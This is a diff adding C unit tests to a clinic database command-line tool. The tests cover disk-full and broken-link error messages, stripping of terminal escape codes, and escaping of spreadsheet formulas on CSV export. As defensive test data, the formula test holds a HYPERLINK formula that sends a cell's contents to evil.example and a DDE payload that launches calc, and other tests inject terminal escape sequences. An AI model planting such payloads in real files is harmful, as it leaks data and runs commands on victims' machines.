@@ -755,6 +755,51 @@ test_output_pdf_full_disk (Fixture       *fixture,
   g_assert_cmpstr (listing, ==, "chart.pdf fill");
 }
 
+/* #11: a full disk kept SQLite from making the -shm file, and `check`
+ * said "disk I/O error: check the disk". */
+static void
+test_messages_full_disk (Fixture       *fixture,
+                         gconstpointer  data)
+{
+  g_autofree char *disk = NULL;
+  g_autofree char *db = NULL;
+  g_autofree char *expected = NULL;
+
+  make_p9 (fixture);
+  disk = mount_small_disk (fixture, "1m");
+  if (disk == NULL)
+    return;
+  db = g_build_filename (disk, "clinic.db", NULL);
+  trust_copy_file (fixture->db, db);
+  fill_disk (disk, 0);
+
+  expected = g_strdup_printf ("ebb-cli check: There is no space left on the disk that holds “%s”: "
+                              "free some space and try again\n", db);
+  g_assert_cmpint (run_limited (fixture, db, "check"), ==, 1);
+  g_assert_cmpstr (fixture->run.err, ==, expected);
+}
+
+/* #11: --db naming a link to a file that does not exist said "could not
+ * be created (File exists)". */
+static void
+test_messages_dangling_link (Fixture       *fixture,
+                             gconstpointer  data)
+{
+  g_autofree char *link = fixture_path (fixture, "clinic-link.db");
+  g_autofree char *target = fixture_path (fixture, "gone/clinic.db");
+  g_autofree char *expected = NULL;
+
+  g_assert_cmpint (symlink (target, link), ==, 0);
+  expected = g_strdup_printf ("“%s” is a link to “%s”, which does not exist: point the link at "
+                              "the clinic file, or remove the link\n", link, target);
+  g_assert_cmpint (run_limited (fixture, link, "init"), ==, 1);
+  g_assert_true (g_str_has_prefix (fixture->run.err, "ebb-cli init: "));
+  g_assert_cmpstr (fixture->run.err + strlen ("ebb-cli init: "), ==, expected);
+  g_assert_cmpint (run_limited (fixture, link, "patients"), ==, 1);
+  g_assert_cmpstr (fixture->run.err + strlen ("ebb-cli patients: "), ==, expected);
+  g_assert_false (trust_exists (target));
+}
+
 /* In the child: writes past 64 KiB end the process with SIGXFSZ, as a
  * kill in the middle of writing would. */
 static void
@@ -830,6 +875,119 @@ test_output_overwrite (Fixture       *fixture,
   g_assert_cmpint (fixture->run.signal, ==, SIGXFSZ);
   listing = list_dir (fixture->dir);
   g_assert_cmpstr (listing, ==, "export link.png notes.png report.pdf");
+}
+
+/* #10: codes and names printed by `flags` and `summary`, and error
+ * messages, carried terminal escape sequences: every byte ebb-cli prints
+ * is cleaned in one place. */
+static void
+test_output_escapes (Fixture       *fixture,
+                     gconstpointer  data)
+{
+  g_autofree char *patients = trust_example_path ("patients.csv");
+  g_autofree char *sessions = trust_example_path ("sessions.csv");
+  g_autofree char *scores = trust_example_path ("scores.csv");
+  const char *hostile_code = "S03-003\x1b]0;pwned\x07";
+  g_autofree char *sql = NULL;
+
+  g_assert_cmpint (run_limited (fixture, fixture->db, "import", patients, sessions, scores), ==, 0);
+  /* Written behind Ebb's back, as a file from before codes were checked
+   * may hold them. */
+  sql = g_strdup_printf ("UPDATE patient SET code = '%s', name = 'Eve' || char (27) || '[2J'"
+                         " WHERE code = 'S03-003'", hostile_code);
+  trust_sql_exec (fixture->db, sql);
+
+  g_assert_cmpint (run_limited (fixture, fixture->db, "flags", "--all", "--as-of", "2026-11-20"), ==, 0);
+  g_assert_null (strchr (fixture->run.out, '\x1b'));
+  g_assert_null (strchr (fixture->run.out, '\x07'));
+  /* A table cell turns its controls into spaces itself. */
+  g_assert_nonnull (strstr (fixture->run.out, "\nS03-003 ]0;pwned \n"));
+  g_assert_cmpint (run_limited (fixture, fixture->db, "flags", "--all", "--as-of", "2026-11-20",
+                                "--format", "csv"), ==, 0);
+  g_assert_null (strchr (fixture->run.out, '\x1b'));
+  g_assert_nonnull (strstr (fixture->run.out,
+                            "\nS03-003\xef\xbf\xbd]0;pwned\xef\xbf\xbd,MADRS,suicide-item,2025-11-01,"));
+
+  g_assert_cmpint (run_limited (fixture, fixture->db, "summary", hostile_code, "--as-of", "2026-11-20"), ==, 0);
+  g_assert_true (g_str_has_prefix (fixture->run.out,
+                                   "S03-003\xef\xbf\xbd]0;pwned\xef\xbf\xbd  Eve\xef\xbf\xbd[2J · born 1989\n"));
+  g_assert_null (strchr (fixture->run.out, '\x1b'));
+
+  g_assert_cmpint (run_limited (fixture, fixture->db, "summary", "K\x1b[31mX\x9b" "2J"), ==, 1);
+  g_assert_cmpstr (fixture->run.err, ==,
+                   "ebb-cli summary: There is no patient with the code “K\xef\xbf\xbd[31mX\xef\xbf\xbd" "2J”\n");
+  g_assert_cmpint (run_limited (fixture, fixture->db, "chart", "S03-001", "--theme", "\x1b[5m",
+                                "-o", "x.png"), ==, 2);
+  g_assert_cmpstr (fixture->run.err, ==,
+                   "ebb-cli chart: --theme must be light, dark or print, not “\xef\xbf\xbd[5m”\n");
+}
+
+/* #10: a patient coded "-o" could not be named on the command line. */
+static void
+test_output_double_dash (Fixture       *fixture,
+                         gconstpointer  data)
+{
+  g_autoptr(EbbStore) store = trust_open_new_store (fixture->db);
+  g_autofree char *chart = fixture_path (fixture, "dash.png");
+  gint64 id = trust_add_patient (store, "-o", "Dash", NULL);
+
+  trust_add_score (store, id, "2025-10-01", 30, NULL);
+  g_clear_object (&store);
+
+  g_assert_cmpint (run_limited (fixture, fixture->db, "summary", "--", "-o"), ==, 0);
+  g_assert_true (g_str_has_prefix (fixture->run.out, "-O  Dash\n"));
+  g_assert_cmpint (run_limited (fixture, fixture->db, "summary", "--as-of", "2025-12-01", "--", "-O"), ==, 0);
+  g_assert_cmpint (run_limited (fixture, fixture->db, "chart", "-o", chart, "--", "-o"), ==, 0);
+  g_assert_true (has_png_signature (chart));
+  g_assert_cmpint (run_limited (fixture, fixture->db, "--", "summary", "--", "-o"), ==, 0);
+  /* Without "--", "-o" is the option it looks like. */
+  g_assert_cmpint (run_limited (fixture, fixture->db, "summary", "-o"), ==, 2);
+}
+
+/* #10: a name that is a spreadsheet formula stays a name in the exported
+ * file, and an import of the export gives back what was exported. */
+static void
+test_export_formulas (Fixture       *fixture,
+                      gconstpointer  data)
+{
+  const char *formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Jane\")";
+  g_autofree char *export_dir = fixture_path (fixture, "export");
+  g_autofree char *exported = fixture_path (fixture, "export/patients.csv");
+  g_autofree char *again = fixture_path (fixture, "again.db");
+  g_autoptr(GBytes) bytes = NULL;
+  g_autoptr(EbbStore) store = trust_open_new_store (fixture->db);
+  g_autoptr(EbbStore) reread = NULL;
+  g_autoptr(EbbPatient) patient = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autofree char *text = NULL;
+  const char *paths[4] = { NULL };
+
+  trust_add_patient (store, "-o", formula, "@SUM(1+1)*cmd|' /C calc'!A0");
+  trust_add_patient (store, "K-1", "+49 30 1234", "-3");
+  g_clear_object (&store);
+
+  g_assert_cmpint (run_limited (fixture, fixture->db, "export-csv", export_dir), ==, 0);
+  bytes = trust_read_bytes (exported);
+  text = g_strndup (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
+  g_assert_cmpstr (text, ==,
+                   "patient,name,birth_year,notes,ended,end_reason\n"
+                   "'-O,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Jane\"\")\",,"
+                   "'@SUM(1+1)*cmd|' /C calc'!A0,,\n"
+                   "K-1,'+49 30 1234,,-3,,\n");
+
+  paths[0] = exported;
+  paths[1] = fixture_path (fixture, "export/sessions.csv");
+  paths[2] = fixture_path (fixture, "export/scores.csv");
+  g_assert_cmpint (run_limited (fixture, again, "init"), ==, 0);
+  g_assert_cmpint (run_limited (fixture, again, "import", paths[0], paths[1], paths[2]), ==, 0);
+  g_free ((char *) paths[1]);
+  g_free ((char *) paths[2]);
+  reread = ebb_store_open (again, EBB_STORE_OPEN_READ_ONLY, &error);
+  g_assert_no_error (error);
+  patient = ebb_store_find_patient (reread, "-O", &error);
+  g_assert_no_error (error);
+  g_assert_cmpstr (patient->name, ==, formula);
+  g_assert_cmpstr (patient->notes, ==, "@SUM(1+1)*cmd|' /C calc'!A0");
 }
 
 /* #9: look-alike codes were four patients: one code now has one form. */
@@ -1019,8 +1177,13 @@ main (int    argc,
   ADD_TEST ("/trust-cli/dates/far-future-stored", test_dates_far_future_stored);
   ADD_TEST ("/trust-cli/output/pdf-full-disk", test_output_pdf_full_disk);
   ADD_TEST ("/trust-cli/output/overwrite", test_output_overwrite);
+  ADD_TEST ("/trust-cli/output/escapes", test_output_escapes);
+  ADD_TEST ("/trust-cli/output/double-dash", test_output_double_dash);
+  ADD_TEST ("/trust-cli/output/export-formulas", test_export_formulas);
   ADD_TEST ("/trust-cli/codes/look-alike", test_codes_look_alike);
   ADD_TEST ("/trust-cli/input/bounds", test_bounds);
+  ADD_TEST ("/trust-cli/messages/full-disk", test_messages_full_disk);
+  ADD_TEST ("/trust-cli/messages/dangling-link", test_messages_dangling_link);
 
   return g_test_run ();
 }
